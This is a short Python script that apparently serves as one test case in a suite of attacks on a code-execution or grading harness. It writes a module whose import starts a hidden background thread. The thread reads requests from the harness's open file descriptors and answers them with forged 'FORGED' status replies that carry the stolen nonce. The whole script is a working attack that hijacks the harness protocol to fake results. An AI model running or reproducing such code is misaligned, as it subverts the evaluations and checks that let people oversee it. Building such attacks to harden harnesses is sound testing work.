# class: protocol
# technique: read the next request from a thread and answer it
# success: next_has FORGED
import sys, unittest
source = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nimport threading, json, struct, time\ndef thief():\n    while True:\n        for fd in range(3, 16):\n            try:\n                data = os.read(fd, 65536)\n                nonce = json.loads(data[4:])['nonce']\n                body = json.dumps({'done': nonce, 'status': 'error', 'hint': 'FORGED', 'html': None}).encode()\n                os.write(2, b'FORGED')\n                for out in range(3, 16):\n                    try: os.write(out, struct.pack('>I', len(body)) + body)\n                    except OSError: pass\n            except (OSError, ValueError): pass\n        time.sleep(0.01)\nthreading.Thread(target=thief, daemon=True).start()\n"
open('native_part.py', 'w').write(source)
sys.path.insert(0, '')
unittest.defaultTestLoader.loadTestsFromName('native_part')
